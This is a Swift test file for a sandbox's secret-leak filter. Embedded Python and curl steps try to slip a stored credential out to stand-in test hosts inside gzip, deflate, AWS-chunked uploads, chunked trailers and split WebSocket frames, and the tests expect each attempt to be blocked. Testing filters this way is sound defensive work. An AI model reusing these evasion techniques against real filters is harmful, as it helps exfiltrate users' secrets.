import LinuxKernel
import TestSupport
import Testing

/// Secrets in places that need decoding before they can be seen: compressed bodies, trailers, WebSocket messages.
@Suite struct EncodedTrafficTests {
    private static let secret = "real-0a9b8c7d6e5f4A3B2C1D-value"

    /// Answers by path, repeating the credential that it got: `/gzip`, `/br`, `/trailers`; and WebSocket messages.
    private static let server = #"""
        import gzip, socket, ssl, sys, threading
        def say(text): print(text, flush=True)
        def serve(peer):
            stream = peer.makefile("rwb")
            while first := stream.readline().decode().strip():
                fields = {}
                while line := stream.readline().decode().strip():
                    name, _, value = line.partition(":")
                    fields[name.lower()] = value.strip()
                say(f"HEAD {first} {fields}")
                token = fields.get("authorization", "none").encode()
                if fields.get("upgrade") == "websocket":
                    stream.write(b"HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"); stream.flush()
                    return frames(stream, token)
                body, extra = b"", b""
                if fields.get("transfer-encoding") == "chunked":
                    while size := int(stream.readline(), 16): body += stream.read(size); stream.readline()
                    while (line := stream.readline()) not in (b"\r\n", b""): extra += line
                else: body = stream.read(int(fields.get("content-length", 0)))
                if "aws-chunked" in fields.get("content-encoding", ""):
                    rest, body = body, b""
                    while size := int(rest.partition(b"\r\n")[0].partition(b";")[0], 16):
                        rest = rest.partition(b"\r\n")[2]
                        body, rest = body + rest[:size], rest[size + 2:]
                    body = b"unframed " + (gzip.decompress(body) if "gzip" in fields["content-encoding"] else body)
                if fields.get("content-encoding") == "gzip": body = b"unpacked " + gzip.decompress(body)
                say(f"BODY {body} {extra}")
                if "/gzip" in first:
                    text = gzip.compress(b"you are " + token)
                    stream.write(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(text) + text)
                elif "/br" in first: stream.write(b"HTTP/1.1 200 OK\r\nContent-Encoding: br\r\nContent-Length: 2\r\n\r\nab")
                elif "/trailers" in first:
                    stream.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\nX-You: " + token + b"\r\n\r\n")
                else: stream.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                stream.flush()
        def frames(stream, token):
            while head := stream.read(2):
                size = head[1] & 127
                mask = stream.read(4)
                data = bytes(byte ^ mask[i & 3] for i, byte in enumerate(stream.read(size)))
                say(f"FRAME {data}")
                answer = b"you are " + token
                stream.write(bytes([0x81, len(answer)]) + answer); stream.flush()
        def guard(peer):
            if peer.recv(1, socket.MSG_PEEK) != b"\x16":
                while piece := peer.recv(65536): say(f"CLEAR {piece}")
                return
            try: serve(context.wrap_socket(peer, server_side=True))
            except OSError: pass
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(sys.argv[1], sys.argv[2])
        listener = socket.create_server(("127.0.0.1", 0))
        say(f"PORT {listener.getsockname()[1]} END")
        while True: threading.Thread(target=guard, args=[listener.accept()[0]], daemon=True).start()
        """#

    /// What runs inside: a client without any library that could encode by itself.
    private static let client = #"""
        import gzip, re, socket, ssl, zlib
        known = open("known").read().strip().encode()
        def connect(host):
            context = ssl.create_default_context()
            context.set_alpn_protocols(["http/1.1"])
            return context.wrap_socket(socket.create_connection((host, 443), 60), server_hostname=host)
        def everything(peer):
            data = b""
            try:
                while piece := peer.recv(65536): data += piece
            except OSError: pass
            return data
        def ask(name, host, line, fields="", body=b"", chunked=False):
            with connect(host) as peer:
                length = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {len(body)}"
                peer.sendall(f"{line} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{length}\r\n{fields}\r\n".encode() + body)
                answer = everything(peer)
            print(name, answer.split(b" ")[1].decode(), re.sub(rb"\s+", b" ", answer.partition(b"\r\n\r\n")[2]).decode())
        def frame(first, data):
            mask = b"\x11\x22\x33\x44"
            return bytes([first, 0x80 | len(data)]) + mask + bytes(byte ^ mask[i & 3] for i, byte in enumerate(data))
        def read_frame(peer):
            head = peer.recv(2)
            data = b""
            while len(data) < head[1]: data += peer.recv(head[1] - len(data))
            return head[0] & 15, data
        other, api = "other.coop-test.example", "api.coop-test.example"
        packed = "Content-Encoding: gzip\r\n"
        ask("harmless", other, "POST /harmless", packed, gzip.compress(b"nothing to see"))
        ask("gzip", other, "POST /packed", packed, gzip.compress(b"a" * 5000 + known))
        ask("deflate", other, "POST /packed", "Content-Encoding: deflate\r\n", zlib.compress(known))
        ask("noise", other, "POST /packed", packed, b"this is not compressed")
        ask("brotli", other, "POST /packed", "Content-Encoding: br\r\n", b"abc")
        ask("calls", other, "POST /packed", "grpc-encoding: gzip\r\n", b"abc")
        def framed(data, size=16, end=b"0\r\nx-amz-checksum-crc32:AAAAAA==\r\n\r\n"):
            pieces = [data[at:at + size] for at in range(0, len(data), size)]
            return b"".join(b"%x;chunk-signature=00\r\n" % len(piece) + piece + b"\r\n" for piece in pieces) + end
        # As boto3 and the other kits send an object that the program has compressed itself.
        uploads = "Content-Encoding: gzip,aws-chunked\r\nx-amz-content-sha256: STREAMING-UNSIGNED-PAYLOAD-TRAILER\r\n"
        ask("upload", other, "PUT /upload", uploads, framed(gzip.compress(b"an object of the user's")))
        ask("reversed", other, "PUT /upload", uploads.replace("gzip,aws-chunked", "aws-chunked, gzip"), framed(gzip.compress(b"again")))
        ask("hidden", other, "PUT /upload", uploads, framed(gzip.compress(b"a" * 5000 + known)))
        ask("split", other, "PUT /upload", "Content-Encoding: aws-chunked\r\n", framed(b"note: " + known, 8))
        ask("unframed", other, "PUT /upload", uploads, gzip.compress(b"no frames"))
        ask("halved", other, "PUT /upload", uploads, framed(gzip.compress(b"an object"), end=b""))
        ask("trailer", other, "POST /trailer", "", b"2\r\nab\r\n0\r\nX-Note: " + known + b"\r\n\r\n", chunked=True)
        ask("answer", api, "GET /gzip")
        ask("unread", api, "GET /br")
        ask("trailers", api, "GET /trailers")
        with connect(api) as peer:
            peer.sendall(f"GET /chat HTTP/1.1\r\nHost: {api}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                "Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n".encode())
            head = b""
            while not head.endswith(b"\r\n\r\n"): head += peer.recv(1)
            print("socket", head.split(b" ")[1].decode())
            peer.sendall(frame(0x81, b"hello"))
            print("message", read_frame(peer))
            peer.sendall(frame(0x01, known[:9]))
            print("message", read_frame(peer)[0])
            peer.sendall(frame(0x80, known[9:]))
            kind, data = read_frame(peer)
            print("close", kind, int.from_bytes(data[:2], "big"), data[2:].decode(), everything(peer))
        with connect(other) as peer:
            peer.sendall(f"GET /end HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n\r\n".encode())
            everything(peer)
        """#

    /// A place with a stored secret and a grant of it for one host.
    private func place(_ identity: TestIdentity) throws -> (place: Sandboxed, upstream: EchoUpstream) {
        let place = try Sandboxed(identity)
        let upstream = try EchoUpstream(place, script: Self.server)
        try place.write(
            place.coopHome + "/config.toml",
            """
            [network]
            mode = "scoped"
            ca = ["\(upstream.certificate)"]
            [[network.rules]]
            host = "other.coop-test.example"
            methods = ["GET", "POST", "PUT"]
            action = "allow"
            [[network.rules]]
            host = "unread.coop-test.example"
            action = "allow"
            [network.hosts]
            "api.coop-test.example" = "127.0.0.1:\(upstream.port)"
            "other.coop-test.example" = "127.0.0.1:\(upstream.port)"
            "unread.coop-test.example" = "127.0.0.1:\(upstream.port)"

            """, mode: 0o600)
        for (arguments, input) in [
            (["secret", "add", "--global", "EXAMPLE_TOKEN"], Self.secret),
            (
                [
                    "grant", "add", "example", "--domain", "api.coop-test.example", "--header", "Authorization", "--template",
                    "Bearer {value}", "--secret", "EXAMPLE_TOKEN",
                ], ""
            ),
        ] {
            let outcome = try place.coop(arguments, input: .bytes(Array(input.utf8)))
            #expect(outcome.exitCode == 0, "\(outcome)")
        }
        try place.write("known", Self.secret)
        return (place, upstream)
    }

    private func record(_ place: Sandboxed) throws -> String {
        var record = ""
        for file in try FileSystem.list(place.coopHome + "/audit").sorted() where file.hasSuffix(".jsonl") {
            record += String(decoding: try FileSystem.read(place.coopHome + "/audit/" + file), as: UTF8.self)
        }
        return record
    }

    @Test("clear text is read although the rule asks for nothing")
    func clearText() throws {
        let (place, upstream) = try place(TestIdentity.all[0])
        let outcome = try place.shell(
            """
            curl -sSi --data-binary @known http://unread.coop-test.example/first
            gzip -c known | curl -sSi -H 'Content-Encoding: gzip' --data-binary @- http://unread.coop-test.example/second
            curl -sSi --http2-prior-knowledge --data-binary @known http://unread.coop-test.example/third
            """)
        let refusals = outcome.output.split(separator: "the request holds a secret of the user's", omittingEmptySubsequences: false)
        #expect(try !upstream.received(until: "CLEAR").contains(Self.secret))
        #expect(refusals.count == 4 && !outcome.output.contains(Self.secret), "\(outcome)")
        let record = try record(place)
        #expect(record.split(separator: "the secret `example` in the ").count == 4 && !record.contains(Self.secret), "\(record)")
    }

    @Test("compressed bodies, trailers and WebSocket messages are searched both ways", arguments: TestIdentity.all)
    func searched(_ identity: TestIdentity) throws {
        let (place, upstream) = try place(identity)
        try place.write("client.py", Self.client)
        let outcome = try place.shell("python3 client.py; echo \"stub $EXAMPLE_TOKEN\"")
        let lines = Dictionary(
            outcome.output.split(separator: "\n").map { line in
                let parts = line.split(separator: " ", maxSplits: 1).map(String.init)
                return (parts[0], parts.count > 1 ? parts[1] : "")
            }, uniquingKeysWith: { first, _ in first })
        let stub = try #require(lines["stub"], "\(outcome)")
        #expect(stub.contains("CoopStub") && !outcome.output.contains(Self.secret), "\(outcome)")

        #expect(lines["harmless"] == "200 ok", "\(outcome)")
        #expect(lines["upload"] == "200 ok" && lines["reversed"] == "200 ok", "\(outcome)")
        for name in ["unframed", "halved"] {
            #expect(lines[name]?.hasPrefix("403 ") == true && lines[name]?.contains("not in chunks of AWS") == true, "\(name): \(outcome)")
        }
        for name in ["gzip", "deflate", "trailer", "hidden", "split"] {
            #expect(lines[name]?.hasPrefix("403 ") == true && lines[name]?.contains("secret of the user's") == true, "\(name): \(outcome)")
        }
        #expect(lines["noise"]?.hasPrefix("403 ") == true && lines["noise"]?.contains("not gzip data") == true, "\(outcome)")
        #expect(lines["calls"]?.hasPrefix("403 ") == true && lines["calls"]?.contains("one by one") == true, "\(outcome)")
        #expect(lines["brotli"]?.hasPrefix("403 ") == true && lines["brotli"]?.contains("cannot be searched") == true, "\(outcome)")
        #expect(lines["answer"]?.hasPrefix("200 ") == true && lines["answer"]?.contains("Bearer \(stub)") == true, "\(outcome)")
        #expect(lines["unread"]?.hasPrefix("502 ") == true, "\(outcome)")
        #expect(lines["trailers"]?.hasPrefix("200 ") == true && lines["trailers"]?.contains("X-You: Bearer \(stub)") == true, "\(outcome)")
        #expect(lines["socket"] == "101" && lines["message"] == "(1, b'you are Bearer \(stub)')", "\(outcome)")
        #expect(lines["close"]?.hasPrefix("8 1008 ") == true && lines["close"]?.contains("secret of the user's") == true, "\(outcome)")

        let seen = try upstream.received(until: "/end")
        #expect(seen.contains("BODY b\"unframed an object of the user's\"") && seen.contains("BODY b'unframed again'"), "\(seen)")
        #expect(seen.contains("BODY b'unpacked nothing to see'") && seen.contains("'authorization': 'Bearer \(Self.secret)'"), "\(seen)")
        #expect(!seen.contains("permessage-deflate") && seen.contains("FRAME b'\(Self.secret.prefix(9))'"), "\(seen)")
        let sent = seen.split(separator: "\n").filter { !$0.hasPrefix("HEAD") }.joined(separator: "\n")
        #expect(!sent.contains(Self.secret) && !sent.contains(Self.secret.dropFirst(9)), "\(seen)")
        let record = try record(place)
        for part in ["compressed body", "trailers", "WebSocket message"] {
            #expect(record.contains("the secret `example` in the \(part)"), "\(part): \(record)")
        }
        #expect(!record.contains(Self.secret))
        #expect(try place.remains() == [])
    }
}
